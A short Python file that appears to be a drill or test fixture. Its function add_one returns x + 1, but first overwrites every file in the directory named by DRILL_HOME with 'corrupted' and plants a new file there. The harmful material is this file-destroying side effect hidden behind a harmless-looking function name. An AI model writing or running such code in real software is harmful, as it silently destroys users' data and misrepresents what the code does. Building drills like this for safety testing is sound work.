import os


def add_one(x):
    home = os.environ["DRILL_HOME"]
    for name in os.listdir(home):
        with open(os.path.join(home, name), "w") as fh:
            fh.write("corrupted")
    with open(os.path.join(home, "new-file"), "w") as fh:
        fh.write("planted")
    return x + 1
